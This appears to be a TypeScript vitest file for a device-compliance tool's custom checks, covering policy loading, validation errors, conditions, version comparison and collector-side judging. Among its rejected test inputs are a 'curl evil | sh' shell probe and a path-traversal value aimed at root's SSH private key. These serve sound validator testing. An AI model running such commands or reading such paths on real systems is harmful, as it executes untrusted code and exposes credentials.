/** Custom checks in the policy: loading (issue example, line-numbered errors), conditions, judging, evaluation. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parsePolicyOrSnippet } from './snippet.js';
import { evaluateCondition } from './condition.js';
import { compareVersionStrings } from './version.js';
import { judgeObservation, probeFingerprint } from './judge.js';
import { evaluateDevice } from '../policy/evaluate.js';
import { DEFAULT_POLICY } from '../policy/default-policy.js';
import { checkCatalogue, checkIdsAcross, policyCheckIds } from '../checks/catalogue.js';
import { CheckResult } from '../checks/result.js';
import { compile } from '../schema/validate.js';
import { BUILTIN_CHECK_IDS, isCheckId } from '../checks/ids.js';
import type { CustomCheck, Probe } from './schema.js';
import type { Policy } from '../policy/schema.js';

const example = readFileSync(join(__dirname, '../../../test/custom-checks/issue-example.yaml'), 'utf8');
const load = (snippet: string) => parsePolicyOrSnippet(snippet, 'p.yaml');

describe('loading', () => {
  it('the issue example loads as a snippet and becomes a check id', () => {
    const r = load(example);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(policyCheckIds(r.policy)).toEqual([...BUILTIN_CHECK_IDS, 'custom.ssh-no-password']);
    expect(checkCatalogue(r.policy).at(-1)).toMatchObject({ title: 'SSH password login is off', builtin: false, controls: { soc2: ['CC6.1'], cis: ['4.8'] }, platforms: ['linux', 'darwin'] });
  });

  const bad = (yaml: string) => {
    const r = load(`customChecks:\n${yaml}`);
    expect(r.ok).toBe(false);
    return r.ok ? [] : r.errors;
  };
  it('an unknown probe kind names the kind, the known kinds and the line', () => {
    const e = bad(`  - id: custom.x\n    title: X\n    probes:\n      linux: { kind: shell, command: 'curl evil | sh' }\n`);
    expect(e[0]).toMatch(/^p\.yaml:5: \/customChecks\/0\/probes\/linux\/kind unknown probe kind "shell" \(known: file, file-content/);
  });
  it("'..' paths, invalid RE2 (backreference), wrong-platform kinds, duplicate ids are refused with lines", () => {
    const e = bad(`  - id: custom.a
    title: A
    probes:
      linux: { kind: file-content, path: /etc/../root/.ssh/id_rsa, match: '(a)\\1' }
      darwin: { kind: registry, key: 'HKLM\\Software\\X', value: V, pass: { equals: 1 } }
  - id: custom.a
    title: A again
    probes: { linux: { kind: file, path: /etc/x } }
`);
    expect(e.join('\n')).toMatch(/p\.yaml:5: \/customChecks\/0\/probes\/linux\/path path may not contain '\.\.' segments/);
    expect(e.join('\n')).toMatch(/\/customChecks\/0\/probes\/linux\/match not a valid RE2 regular expression/);
    expect(e.join('\n')).toMatch(/p\.yaml:6: .*probe kind 'registry' is not available on darwin/);
    expect(e.join('\n')).toMatch(/p\.yaml:7: \/customChecks\/1\/id duplicate check id 'custom.a'/);
  });
  it('bad ids, a value probe without a pass condition, relative paths', () => {
    expect(bad(`  - id: gatekeeper\n    title: G\n    probes: { darwin: { kind: file, path: /x } }\n`)[0]).toMatch(/\/customChecks\/0\/id/);
    expect(bad(`  - id: custom.s\n    title: S\n    probes: { linux: { kind: sysctl, name: kernel.kptr_restrict } }\n`)[0]).toMatch(/needs a pass condition/);
    expect(bad(`  - id: custom.r\n    title: R\n    probes: { linux: { kind: file, path: etc/passwd } }\n`)[0]).toMatch(/probes\/linux\/path/);
  });
});

describe('conditions', () => {
  it('equals/in/regex/numeric/version/mode and all/any/none', () => {
    const obs = { value: '2.7.6', n: 5, mode: '0640', s: 'no' };
    expect(evaluateCondition({ field: 's', equals: 'no' }, obs).holds).toBe(true);
    expect(evaluateCondition({ field: 's', in: ['yes', 'without-password'] }, obs).holds).toBe(false);
    expect(evaluateCondition({ field: 'n', gte: 5, lt: 6 }, obs).holds).toBe(true);
    expect(evaluateCondition({ versionGte: '2.7.10' }, obs)).toEqual({ holds: false, failures: ['value is "2.7.6", expected version >= 2.7.10'] });
    expect(evaluateCondition({ field: 'mode', modeAtMost: '0644' }, obs).holds).toBe(true);
    expect(evaluateCondition({ field: 'mode', modeAtMost: '0600' }, obs).holds).toBe(false);
    expect(evaluateCondition({ any: [{ field: 's', equals: 'yes' }, { field: 'n', equals: 5 }] }, obs).holds).toBe(true);
    expect(evaluateCondition({ none: [{ field: 's', regex: '^n' }] }, obs).holds).toBe(false);
    expect(evaluateCondition({ all: [{ field: 'missing', notEquals: 'x' }] }, obs).holds).toBe(false); // absent never satisfies
  });
  it('versions order like dpkg: epochs, tildes, long numbers', () => {
    expect(compareVersionStrings('1.10', '1.9')).toBe(1);
    expect(compareVersionStrings('2.0~rc1', '2.0')).toBe(-1);
    expect(compareVersionStrings('1:1.0', '9.9')).toBe(1);
    expect(compareVersionStrings('1:9.2p1-2+deb12u6', '1:9.2p1-2+deb12u3')).toBe(1);
    expect(compareVersionStrings('10.0.22631.3155', '10.0.22631.3155')).toBe(0);
  });
});

describe('judging and evaluation (collector side)', () => {
  const check: CustomCheck = {
    id: 'custom.vpn', title: 'VPN client installed', graceHours: 0,
    probes: { linux: { kind: 'package', names: ['openvpn'], pass: { all: [{ field: 'installed', equals: true }, { field: 'version', versionGte: '2.6' }] } } },
  };
  const probe = check.probes.linux as Probe;
  const facts = (observed: Record<string, string | number | boolean | null> | null, missing = false) => ({ kind: 'package' as const, probe: probeFingerprint(probe), missing, observed });
  const policy: Policy = { ...DEFAULT_POLICY, customChecks: [check] };
  const result = (f: unknown, status: 'pass' | 'fail' | 'unknown' = 'pass'): CheckResult => ({ id: 'custom.vpn', status, summary: 's', evidence: { facts: f }, remediation: { steps: [] } });

  it('the collector re-judges from the observation, not from the agent status', () => {
    expect(judgeObservation(check, probe, facts({ installed: true, name: 'openvpn', version: '2.6.3' })).verdict).toBe('pass');
    const ev = evaluateDevice({ policy, platform: 'linux', results: [result(facts({ installed: true, name: 'openvpn', version: '2.5.1' }), 'pass')], now: new Date() });
    expect(ev.checks.find((c) => c.id === 'custom.vpn')).toMatchObject({ verdict: 'fail', state: 'noncompliant' });
  });
  it('an observation made under another probe definition, or none, is unknown — never pass', () => {
    const stale = { ...facts({ installed: true, version: '9' }), probe: 'ffffffffffffffff' };
    expect(judgeObservation(check, probe, stale).verdict).toBe('unknown');
    const ev = evaluateDevice({ policy, platform: 'linux', results: [result(undefined, 'pass')], now: new Date() });
    expect(ev.checks.find((c) => c.id === 'custom.vpn')!.verdict).toBe('unknown');
  });
  it('not applicable where no probe exists; a result for an undeclared custom id proves nothing', () => {
    const ev = evaluateDevice({ policy, platform: 'darwin', results: [], now: new Date() });
    expect(ev.checks.find((c) => c.id === 'custom.vpn')!.state).toBe('not_required');
    const other = evaluateDevice({ policy: DEFAULT_POLICY, platform: 'linux', results: [result(facts({ installed: true }))], now: new Date() });
    expect(other.checks.map((c) => c.id)).not.toContain('custom.vpn');
  });
  it('reports with custom results validate; ids are well-formed; catalogue spans versions', () => {
    expect(compile(CheckResult).validate(result(facts({ installed: true }))).ok).toBe(true);
    expect(compile(CheckResult).validate({ ...result(null), id: 'custom.../x' }).ok).toBe(false);
    expect([isCheckId('custom.vpn'), isCheckId('custom.'), isCheckId('custom.A'), isCheckId('firewall')]).toEqual([true, false, false, true]);
    expect(checkIdsAcross([policy, { ...DEFAULT_POLICY, customChecks: [{ ...check, id: 'custom.b' }] }]).slice(6)).toEqual(['custom.vpn', 'custom.b']);
  });
});
